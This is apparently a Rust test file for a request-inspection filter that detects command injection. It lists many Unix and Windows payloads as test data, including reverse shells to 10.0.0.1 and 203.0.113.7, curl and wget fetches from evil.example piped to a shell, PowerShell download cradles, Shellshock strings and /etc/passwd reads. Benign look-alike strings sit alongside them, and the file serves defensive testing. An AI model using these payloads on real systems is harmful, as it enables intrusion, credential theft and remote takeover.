use super::super::testing::{blocks, ids, ids_at};
use crate::inspect::detect::TargetKind;

#[test]
fn patterns_compile() {
    assert!(super::INTERPRETERS.compiled());
}

#[test]
fn unix_injections_are_detected_at_level_1() {
    for p in [
        ";cat /etc/passwd",
        "; cat /etc/passwd",
        "|id",
        "| id",
        "||id",
        "1;id",
        "x && whoami",
        "a&whoami&",
        "$(id)",
        "$(cat /etc/passwd)",
        "`id`",
        "x`whoami`",
        "foo\nid",
        "foo\ncat /etc/shadow",
        ";${IFS}cat${IFS}/etc/passwd",
        "cat$IFS/etc/passwd",
        ";{cat,/etc/passwd}",
        ";/bin/cat /etc/passwd",
        ";/???/c?t /etc/passwd",
        ";c'a't /etc/passwd",
        ";w\"h\"o\"am\"i",
        ";c\\at /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "; sleep 5",
        "& ping -c 10 127.0.0.1 &",
        "'; ls -la /",
        "\"; uname -a; \"",
        "; curl http://evil.example/x.sh | sh",
        "|| wget http://evil.example/x -O /tmp/x",
        "; echo $PATH",
        "() { :;}; /bin/bash -c \"id\"",
        "() { :;}; echo vulnerable",
        "| system('sleep 5');",
        "eval('whoami');",
        "|id|",
        ";id|",
        "';id;'",
        "a;id|",
        "a;id;",
        "a);/usr/bin/id;",
        "$(`ls`)",
        ";id\\n",
        "||/usr/bin/id;",
        "& sysinfo",
        "1|busybox nc 203.0.113.7 1 -e sh",
        "; wget evil.example/x.sh",
    ] {
        assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
    }
}

#[test]
fn windows_injections_are_detected_at_level_1() {
    for p in [
        "& dir",
        "&dir c:\\",
        "| type C:\\boot.ini",
        "| type c:\\windows\\win.ini",
        "& ipconfig /all",
        "& net user",
        "&& whoami.exe",
        "| powershell -enc SQBFAFgA",
        "& powershell.exe -nop -w hidden -c calc",
        "& cmd /c dir",
        "| cmd.exe /c whoami",
        "c:\\windows\\system32\\cmd.exe /c calc",
        "%comspec% /c calc",
        "; iex(New-Object Net.WebClient).DownloadString('http://x')",
        "& certutil -urlcache -split -f http://x/a.exe",
        "| w^h^o^a^m^i",
    ] {
        assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
    }
}

#[test]
fn benign_look_alikes_pass_at_level_1() {
    for p in [
        "cat food; dog food",
        "Tom & Jerry",
        "Rock & roll; jazz | blues",
        "salt & pepper",
        "Q&A and R&D",
        "name;id;email",
        "sort=name|id|date",
        "I love my cat",
        "Run `ls -la` to list files",
        "echo chamber; time flies",
        "fish & chips",
        "sleep well & dream",
        "Research & Development; Sales & Marketing",
        "| Command | Meaning |\n| ls | list |",
        "const greeting = `Hello, ${name}!`;",
        "$ cargo build --release",
        "#!/bin/bash\necho hi",
        "Price: <$50 for members, >$80 otherwise.",
        "Type & find what you need",
        "A | B | C",
        "{\"type\": \"dir\"}",
        "Net user count grew 12% this quarter; systeminfo shows 16 GB RAM.",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ] {
        assert!(!blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids(p));
    }
}

#[test]
fn looser_levels_catch_more() {
    assert!(ids_at("ping 127.0.0.1", TargetKind::QueryValue, 2).contains(&3102));
    assert!(ids_at("; echo hello", TargetKind::QueryValue, 2).contains(&3101));
    assert!(ids_at("Run `ls -la` now", TargetKind::JsonString, 2).contains(&3103));
    assert!(ids_at("x; cat", TargetKind::QueryValue, 3).contains(&3201));
    assert!(ids_at("x; cat", TargetKind::QueryValue, 2).is_empty());
}
